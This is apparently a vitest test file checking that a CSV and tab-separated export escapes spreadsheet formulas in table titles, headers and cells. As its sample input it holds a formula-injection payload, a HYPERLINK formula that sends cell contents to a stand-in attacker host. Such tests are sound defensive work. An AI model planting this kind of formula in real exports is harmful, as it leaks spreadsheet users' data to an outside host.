import { expect, test } from 'vitest';
import { extractedFile, tabSeparated } from '@/utils/results/extracted-file';

const formula = '=HYPERLINK("https://evil.example?"&A1)';
const table = {
  title: formula,
  columns: [formula, 'Count'],
  rows: [
    [formula, '-1.5'],
    ['@SUM(A1)', '+2'],
  ],
};

test('no text of a page becomes a formula: no cell, no column, no title of a table', () => {
  const lines = String(extractedFile({ tables: [table, table] }, 'csv').content)
    .replace('\uFEFF', '')
    .split(/\r?\n/);
  expect(lines.filter((line) => /^"?[=@]|,"?[=@]/.test(line))).toEqual([]);
  expect(lines).toContain("'@SUM(A1),+2");
  expect(tabSeparated([table])).not.toMatch(/(^|\t|\n)[=@]/);
});
